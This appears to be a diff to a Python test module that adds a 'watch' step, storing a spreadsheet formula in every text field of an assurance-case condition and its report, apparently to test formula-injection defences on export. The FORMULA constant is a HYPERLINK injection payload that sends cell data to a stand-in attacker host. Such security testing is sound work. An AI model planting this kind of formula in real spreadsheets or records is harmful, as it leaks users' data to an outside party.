@@ -14,10 +14,12 @@ from aims.tenancy.actions import issue_token
 from aims.tenancy.models import Member, Organisation
 from aims.tenancy.permissions import Role
 from aims.tenancy.scope import organisation_scope, working_in
-from cases.models import ClaimMetric, Element
+from cases.actions import report_condition
+from cases.models import AssuranceCase, ClaimMetric, Element
 from tests.audits import making
 from tests.audits.material import ask
 from tests.cases.measuring import make_indicator, make_metric, reading, send
+from tests.cases.watching import make_condition
 from tests.factories import make_control, make_evidence, make_risk, make_system
 
 FORMULA = '=HYPERLINK("https://thief.example/?"&A1,"@open")'
@@ -72,6 +74,7 @@ def complete(troupe: Troupe) -> None:
     with working_in(troupe.organisation):
         issue_token(troupe.officer, name=formula, scopes=["read"], days=1, actor=None)
         measure(troupe, formula)
+        watch(troupe, formula)
 
 
 def measure(troupe: Troupe, formula: str) -> None:
@@ -83,6 +86,13 @@ def measure(troupe: Troupe, formula: str) -> None:
     send(troupe, reading(0.93, metric=key, group=None, source=formula[:100], run_id=formula, key=formula))
     if ClaimMetric.objects.filter(number=1).exclude(key=key).exists():
         send(troupe, reading(0.93, metric=ClaimMetric.objects.get(number=1).key, source=formula[:100]))
+
+
+def watch(troupe: Troupe, formula: str) -> None:
+    """A condition of the first case and a report of it, every text a formula."""
+    case = AssuranceCase.objects.get(number=1)
+    row = make_condition(troupe, case, None, statement=formula, config={"source": formula})
+    report_condition(row, seen="ok", note=formula, reference=formula, key=formula, actor=troupe.contributor)
 
 
 @pytest.fixture(scope="package")
